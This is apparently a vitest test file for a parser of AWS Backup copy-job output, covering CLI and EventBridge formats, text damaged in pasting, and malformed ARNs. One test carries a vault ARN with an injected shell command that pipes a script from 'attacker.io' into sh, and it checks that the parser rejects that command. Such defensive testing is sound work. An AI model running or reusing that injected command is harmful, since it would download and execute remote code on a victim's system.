import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { readCopyJob, readCopyJobs } from './copyJob';

const describeOutput = {
  CopyJob: {
    AccountId: '111122223333',
    CopyJobId: 'E0AADB8D-1234-5678-9ABC-DEF012345678',
    SourceBackupVaultArn: 'arn:aws:backup:us-east-1:111122223333:backup-vault:Default',
    SourceRecoveryPointArn: 'arn:aws:ec2:us-east-1::snapshot/snap-0123456789abcdef0',
    DestinationBackupVaultArn: 'arn:aws:backup:eu-west-1:444455556666:backup-vault:central-vault',
    ResourceArn: 'arn:aws:ec2:us-east-1:111122223333:volume/vol-0123456789abcdef0',
    CreationDate: '2026-11-28T10:00:00.000Z',
    State: 'FAILED',
    StatusMessage: 'Access Denied trying to call AWS Backup service',
    MessageCategory: 'ACCESS_DENIED',
    IamRoleArn: 'arn:aws:iam::111122223333:role/service-role/AWSBackupDefaultServiceRole',
    ResourceType: 'EBS',
  },
};

const expected = {
  accountId: '111122223333',
  copyJobId: 'E0AADB8D-1234-5678-9ABC-DEF012345678',
  state: 'FAILED',
  statusMessage: 'Access Denied trying to call AWS Backup service',
  messageCategory: 'ACCESS_DENIED',
  resourceType: 'EBS',
  resourceArn: 'arn:aws:ec2:us-east-1:111122223333:volume/vol-0123456789abcdef0',
  sourceVaultArn: 'arn:aws:backup:us-east-1:111122223333:backup-vault:Default',
  destinationVaultArn: 'arn:aws:backup:eu-west-1:444455556666:backup-vault:central-vault',
  sourceRecoveryPointArn: 'arn:aws:ec2:us-east-1::snapshot/snap-0123456789abcdef0',
  iamRoleArn: 'arn:aws:iam::111122223333:role/service-role/AWSBackupDefaultServiceRole',
  sourceAccountId: '111122223333',
  destinationAccountId: '444455556666',
  sourceRegion: 'us-east-1',
  destinationRegion: 'eu-west-1',
  destinationVaultName: 'central-vault',
};

describe('readCopyJob', () => {
  it('reads describe-copy-job output and derives accounts and Regions from the vault ARNs', () => {
    expect(readCopyJob(JSON.stringify(describeOutput, null, 2))).toEqual(expected);
  });

  it('reads a bare CopyJob object', () => {
    expect(readCopyJob(JSON.stringify(describeOutput.CopyJob))).toEqual(expected);
  });

  it('takes the first FAILED job of list-copy-jobs output', () => {
    const ok = { ...describeOutput.CopyJob, State: 'COMPLETED', StatusMessage: undefined, CopyJobId: 'A' };
    const failed = { ...describeOutput.CopyJob, CopyJobId: 'B', DestinationBackupVaultArn: 'arn:aws:backup:ap-east-2:444455556666:backup-vault:tpe' };
    const list = JSON.stringify({ CopyJobs: [ok, failed, { ...failed, CopyJobId: 'C' }], NextToken: 'x' });
    const job = readCopyJob(list);
    expect(job?.copyJobId).toBe('B');
    expect(job?.destinationRegion).toBe('ap-east-2');
    expect(job?.destinationVaultName).toBe('tpe');
    expect(readCopyJobs(list)).toHaveLength(3);
    expect(readCopyJob(JSON.stringify({ CopyJobs: [ok] }))?.copyJobId).toBe('A');
  });

  it('reads an EventBridge copy job event (camelCase keys)', () => {
    const event = {
      'detail-type': 'Copy Job State Change',
      source: 'aws.backup',
      detail: {
        copyJobId: 'X',
        state: 'FAILED',
        statusMessage: 'Given key ID does not exist',
        sourceBackupVaultArn: 'arn:aws:backup:us-west-2:111122223333:backup-vault:src',
        destinationBackupVaultArn: 'arn:aws:backup:us-east-1:444455556666:backup-vault:dst',
        resourceType: 'RDS',
      },
    };
    expect(readCopyJob(JSON.stringify(event))).toMatchObject({
      copyJobId: 'X',
      statusMessage: 'Given key ID does not exist',
      sourceRegion: 'us-west-2',
      destinationAccountId: '444455556666',
      resourceType: 'RDS',
    });
  });

  it('copes with paste damage: prompt and trailing text, typographic quotes, trailing commas, a BOM', () => {
    const damaged = `\uFEFF$ aws backup describe-copy-job --copy-job-id X\n{ “CopyJob”: { “State”: “FAILED”, “DestinationBackupVaultArn”: “arn:aws:backup:eu-west-1:444455556666:backup-vault:v1”, }, }\n$ `;
    expect(readCopyJob(damaged)).toEqual({
      state: 'FAILED',
      destinationVaultArn: 'arn:aws:backup:eu-west-1:444455556666:backup-vault:v1',
      destinationAccountId: '444455556666',
      destinationRegion: 'eu-west-1',
      destinationVaultName: 'v1',
    });
  });

  it('leaves out what a malformed ARN cannot give, and says which field and why', () => {
    const job = readCopyJob(JSON.stringify({ CopyJob: { State: 'failed', SourceBackupVaultArn: 'arn:aws:backup:us-east-1:SourceAccountID:backup-vault:x', DestinationBackupVaultArn: 'not an arn' } }));
    expect(job).toEqual({
      state: 'FAILED',
      rejected: [
        { field: 'SourceBackupVaultArn', kind: 'vaultArn', reason: 'format' },
        { field: 'DestinationBackupVaultArn', kind: 'vaultArn', reason: 'shell-character' },
      ],
    });
  });

  it('keeps the well-formed parts of an ARN whose vault name is hostile, and never the name', () => {
    const arn = "arn:aws:backup:eu-west-1:444455556666:backup-vault:central-backup-vault;curl$IFS-s$IFS'attacker.io/p'|sh;#";
    const job = readCopyJob(JSON.stringify({ CopyJob: { State: 'FAILED', DestinationBackupVaultArn: arn } }));
    expect(job).toEqual({
      state: 'FAILED',
      destinationAccountId: '444455556666',
      destinationRegion: 'eu-west-1',
      rejected: [
        { field: 'DestinationBackupVaultArn', kind: 'vaultArn', reason: 'shell-character' },
        { field: 'DestinationBackupVaultArn', kind: 'vaultName', reason: 'shell-character', fact: 'destinationVaultName' },
      ],
    });
  });

  it('returns undefined for text without a copy job', () => {
    expect(readCopyJob('Access Denied trying to call AWS Backup service')).toBeUndefined();
    expect(readCopyJob('')).toBeUndefined();
    expect(readCopyJob('{"Policy": "{}"}')).toBeUndefined();
    expect(readCopyJob('{"CopyJob": null}')).toBeUndefined();
  });

  it('never throws', () => {
    fc.assert(
      fc.property(fc.oneof(fc.string(), fc.json(), fc.jsonValue().map((v) => JSON.stringify({ CopyJob: v })), fc.jsonValue().map((v) => JSON.stringify({ CopyJobs: v }))), (text) => {
        expect(() => readCopyJob(text)).not.toThrow();
      }),
      { numRuns: 300 },
    );
  });
});
